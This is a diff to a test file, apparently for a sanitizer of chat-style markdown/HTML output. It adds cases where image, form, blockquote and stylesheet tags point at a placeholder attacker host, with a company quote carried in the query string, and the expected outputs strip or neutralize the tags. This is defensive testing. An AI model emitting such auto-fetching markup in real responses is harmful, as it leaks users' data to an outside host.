@@ -65,6 +65,12 @@ CASES = [
     (f"[![a]({EVIL}/x.png)][r]\n\n[r]: https://example.com/page?a=1", "[a][r]\n\n[r]: https://example.com/page?a=1"),
     (f"[![a]({EVIL}/x.png)][nope]", "[a][nope]"),
     (f"见 {EVIL}/?q=星河公司报价, 后面", f"见 `{EVIL}/?q=星河公司报价`, 后面"),
+    (f'<form action="{EVIL}/?q=星河公司报价">', f"`{EVIL}/?q=星河公司报价`"),
+    (f'<form action="{EVIL}/docs">', f'<form action="{EVIL}/docs">'),
+    (f"<blockquote cite='{EVIL}/?q=星河公司报价'>", f"`{EVIL}/?q=星河公司报价`"),
+    (f'<link href="{EVIL}/?q=星河公司报价">', ""),  # a stylesheet link fetches: it goes
+    (f'<img src="{EVIL}/i.png" title="标题">', "标题"),
+    (f'<img src="{EVIL}/i.png" alt=\'说明\'>', "说明"),
     (f"见 {EVIL}/?q=星河公司报价X!", f"见 `{EVIL}/?q=星河公司报价X`!"),
     ("<font color=red>红</font> a < b <think>x</think> [1] 和 [2]",
      "<font color=red>红</font> a < b <think>x</think> [1] 和 [2]"),
